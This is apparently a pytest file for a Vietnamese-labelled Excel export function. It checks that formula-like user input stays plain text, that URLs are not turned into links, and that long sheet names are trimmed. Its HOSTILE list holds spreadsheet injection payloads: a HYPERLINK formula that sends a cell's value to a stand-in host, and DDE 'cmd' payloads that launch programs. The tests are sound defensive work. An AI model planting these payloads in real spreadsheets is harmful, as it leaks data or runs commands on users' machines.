"""Table downloads: user text is written as text, so nothing a user typed becomes a live formula in Excel."""

import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from ntm.export import to_xlsx

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "=cmd|' /C notepad'!'A1'",
]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_stays_text(text):
    data = to_xlsx(pd.DataFrame({"Ghi chú": [text], "Số tiêu chí": [10]}), "Xã")
    assert "<f>" not in sheet_xml(data)  # no formula anywhere in the sheet
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Xã"]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (text, "s")
    assert (sheet["B2"].value, sheet["B2"].data_type) == (10, "n")  # numbers stay numbers


def test_urls_are_not_made_links_and_lists_are_joined():
    frame = pd.DataFrame({"Nguồn": ["https://example.invalid/a"], "Chưa đạt": [[2, 4, 17]]})
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame)))["Data"]
    assert sheet["A2"].hyperlink is None and sheet["A2"].value == "https://example.invalid/a"
    assert sheet["B2"].value == "2, 4, 17"


def test_a_long_sheet_name_is_cut_to_excels_31_characters():
    name = "Danh sách xã chưa đạt tiêu chí môi trường năm 2024"
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(pd.DataFrame({"a": [1]}), name)))
    assert book.sheetnames == [name[:31]]
